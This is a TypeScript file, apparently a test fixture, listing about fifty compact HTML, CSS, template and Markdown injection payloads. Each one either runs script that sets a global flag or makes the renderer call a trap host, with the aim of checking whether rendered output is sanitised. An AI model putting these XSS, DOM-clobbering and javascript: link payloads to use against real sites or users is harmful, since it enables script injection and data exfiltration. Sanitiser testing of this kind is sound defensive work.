// Markup that wants to run, to call home or to lead elsewhere, each kind in as few bytes as it takes to fit a short
// field. What runs sets the global `ran`; what calls home comes to the trap, at `//host:port/mark`.

export interface Payload {
  readonly kind: string;
  /** `mark` is found in it again, and in what it asks the trap for. */
  readonly text: (trap: string, mark: string) => string;
  /** What of it stands in an answer, where it is read as Markdown; absent means: all of it, as it is. */
  readonly prose?: (trap: string, mark: string) => readonly string[];
}

const inProse = (...parts: readonly string[]): Pick<Payload, "prose"> => ({
  prose: (trap, mark) =>
    parts.map((part) => part.replaceAll("MARK", mark).replaceAll("TRAP", trap)),
});

const of = (kind: string, pattern: string, more: Pick<Payload, "prose"> = {}): Payload => ({
  kind,
  text: (trap, mark) =>
    pattern.replaceAll("TRAP", () => `${trap}/${mark}`).replaceAll("MARK", () => mark),
  ...more,
});

export const payloads: readonly Payload[] = [
  of("a script", "<script>ran=1</script>MARK"),
  of("a script from elsewhere", "<script src=TRAP></script>"),
  of("an image that fails", "<img src=TRAP onerror=ran=1>"),
  of("a set of images", "<img srcset=TRAP>"),
  of("a drawing", "<svg/onload=ran=1>MARK"),
  of("a script in a drawing", "<svg><script href=TRAP />"),
  of("an image in a drawing", "<svg><image href=TRAP />"),
  of("markup that mutates", "<math><mtext><style><img src=TRAP>"),
  of("a comment that ends early", "<!--><img src=TRAP>-->"),
  of("a frame", "<iframe src=TRAP></iframe>"),
  of("a frame with its own page", "<iframe srcdoc='<script>top.ran=1</script>'>MARK"),
  of("an object", "<object data=TRAP></object>"),
  of("an embedded thing", "<embed src=TRAP>"),
  of("a film", "<video src=TRAP onerror=ran=1>"),
  of("details that open", "<details open ontoggle=ran=1>MARK"),
  of("a field that has the focus", "<input autofocus onfocus=ran=1>MARK"),
  of("a button of a form", "<button formaction=javascript:ran=1>MARK"),
  of("a page that moves", "<meta http-equiv=refresh content=0;TRAP>"),
  of("another base", "<base href=TRAP>"),
  of("a style sheet", "<link rel=stylesheet href=TRAP>"),
  of("what is fetched ahead", "<link rel=prefetch href=TRAP>"),
  of("a host that is asked for ahead", "<link rel=preconnect href=TRAP>"),
  of("a style with an address", "<style>*{background:url(TRAP)}</style>"),
  of("a style that imports", "<style>@import 'TRAP'</style>"),
  of("a style of an element", "<b style=background:url(TRAP)>"),
  of("a form for a body", "<form name=body><input name=MARK>"),
  of("an anchor for a window", "<a id=self><a id=self name=MARK>"),
  of("a name of every object", "__proto__MARK", inProse("__proto__MARK")),
  of("the end of an attribute", `"><img src=TRAP onerror=ran=1>`),
  of("the end of a string", "'-(ran=1)-'MARK"),
  of("the end of a field of JSON", `"},"t":"notice","x":"MARK`),
  of("a template of braces", "{{constructor.constructor('ran=1')()}}MARK"),
  of("a template of dollars", "${ran=1}#{ran=1}<%=ran=1%>MARK"),
  of("markup in escapes", String.raw`\u003cimg src=TRAP\u003e`, inProse("src=TRAP/MARK")),
  of("markup in entities", "&lt;img src=TRAP onerror=ran=1&gt;"),
  of("markup with a hole", "<scr\u0000ipt>ran=1</script>MARK"),
  of("markup of wide letters", "＜script＞ran=1＜/script＞MARK"),
  of("an address", "http:TRAP"),
  of("an address in brackets", "<http:TRAP>", inProse("http:TRAP/MARK")),
  of("a script in brackets", "<javascript:ran=1//MARK>"),
  of("an image of Markdown", "![MARK](http:TRAP)", inProse("!MARK", "http:TRAP/MARK")),
  of("a link that is a script", "[go](javascript:ran=1//MARK)", inProse("javascript:ran=1//MARK")),
  of("a link with an entity", "[go](java&#115;cript:MARK)", inProse("java&#115;cript:MARK")),
  of("a link that is a page", "[MARK](data:text/html,<script>ran=1</script>)"),
  of("a link around markup", "[<img src=TRAP>](x)", inProse("<img src=TRAP/MARK>")),
  of("a link's title", `[go](x "onclick=ran=1//MARK")`, inProse("onclick=ran=1//MARK")),
  of("nested Markdown", "**[_MARK_](javascript:ran=1)**", inProse("MARK")),
  of("a link that is defined apart", "[MARK]: javascript:ran=1"),
  // What follows it is code, until its own end: the last, therefore.
  of("a language of code", "```<img/src=TRAP>", inProse("<img/src=TRAP/MARK>")),
];
